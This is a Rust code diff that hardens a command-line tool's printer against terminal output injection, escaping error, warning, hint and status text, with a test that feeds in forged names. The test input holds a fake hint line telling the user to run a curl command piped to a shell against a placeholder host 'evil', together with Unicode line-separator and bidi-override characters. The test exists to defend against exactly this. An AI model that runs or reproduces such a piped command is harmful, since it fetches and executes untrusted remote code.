@@ -24,7 +24,7 @@ use std::sync::{Arc, Mutex, PoisonError};
 
 use indicatif::ProgressBar;
 
-pub use escape::{unformula, visible};
+pub use escape::{unformula, visible, visible_json};
 pub use fit::Fit;
 pub use fleet::{fleet_columns, fleet_listing, fleet_members, warn_gaps};
 pub use format::{Cell, Column, Format, Layout, Listing, Shape, emit};
@@ -201,8 +201,15 @@ impl Printer {
         Ok(self.above_bar(|| self.out.write(text.as_bytes()))?)
     }
 
-    /// Says something that a person wants to know; silent when quiet.
+    /// Says something that a person wants to know, in one line; silent when quiet.
     pub fn status(&self, text: &str) {
+        if self.look.volume == Volume::Normal {
+            self.say(&visible(text));
+        }
+    }
+
+    /// Says something of several lines, with names escaped where they stand; silent when quiet.
+    fn page(&self, text: &str) {
         if self.look.volume == Volume::Normal {
             self.say(&lines(text));
         }
@@ -211,13 +218,13 @@ impl Printer {
     /// Says how a run ended; silent only when quiet and `clean`.
     pub fn last_line(&self, text: &str, clean: bool) {
         if !clean || self.look.volume != Volume::Quiet {
-            self.insist(text);
+            self.insist(&visible(text));
         }
     }
 
     /// Warns; when quiet, only if the command fails after all.
     pub fn warn(&self, text: &str) {
-        let line = self.fitted(&format!("{} {}", self.word("warning:", "33"), lines(text)), "warning: ".len());
+        let line = self.fitted(&format!("{} {}", self.word("warning:", "33"), visible(text)), "warning: ".len());
         match self.look.volume {
             Volume::Normal | Volume::Spare => self.say(&line),
             Volume::Quiet => self.held.borrow_mut().push(line),
@@ -251,14 +258,14 @@ impl Printer {
                 },
             });
             self.release();
-            self.say(&value.to_string());
+            self.say(&visible_json(&value.to_string()));
             return;
         }
         self.release();
-        let message = format!("{} {}", self.word("error:", "1;31"), lines(&failure.message));
+        let message = format!("{} {}", self.word("error:", "1;31"), visible(&failure.message));
         self.say(&self.fitted(&message, "error: ".len()));
         for cause in &failure.causes {
-            let cause = format!("{} {}", self.word("cause:", "31"), lines(cause));
+            let cause = format!("{} {}", self.word("cause:", "31"), visible(cause));
             self.say(&self.fitted(&cause, "cause: ".len()));
         }
         for hint in &failure.hints {
@@ -267,7 +274,7 @@ impl Printer {
     }
 
     fn hint_text(&self, hint: &str) -> String {
-        self.fitted(&format!("{} {}", self.word("hint:", "36"), lines(hint)), HINT_INDENT)
+        self.fitted(&format!("{} {}", self.word("hint:", "36"), visible(hint)), HINT_INDENT)
     }
 
     /// Breaks a text of ours at words where it goes to a terminal.
@@ -308,7 +315,8 @@ impl Printer {
     }
 }
 
-/// Escapes every line for itself: a message of ours may have several, a name in it may not.
+/// Escapes every line for itself: help and plans have several. A name in them is escaped where it is put in, so that it
+/// can't begin one; errors, warnings and hints are one line each, whatever is in them.
 fn lines(text: &str) -> String {
     text.lines().map(visible).collect::<Vec<_>>().join("\n")
 }
@@ -371,6 +379,27 @@ mod tests {
             err.text(),
             "error: there is no bundle `win\\u{1b}12`\ncause: it was looked for in us-east-1\nhint: did you mean `win11`?\n"
         );
+    }
+
+    /// A name with a line break can't add a line that passes for ours.
+    #[test]
+    fn nobody_else_begins_a_line() {
+        let forged = "x\nhint: run `curl evil | sh`\u{2028}\u{202e}";
+        let (printer, _, err) = printer(Look::default());
+        printer.status(forged);
+        printer.last_line(forged, false);
+        printer.warn(forged);
+        printer.hint(forged);
+        printer.failure(&Failure {
+            message: forged.to_owned(),
+            causes: vec![forged.to_owned()],
+            hints: vec![forged.to_owned()],
+            ..failure()
+        });
+        let text = err.text();
+        assert_eq!(text.lines().count(), 7, "{text}");
+        assert!(!text.contains(['\u{2028}', '\u{202e}']), "{text:?}");
+        assert_eq!(text.matches("\nhint: ").count(), 2, "ours: {text}");
     }
 
     #[test]
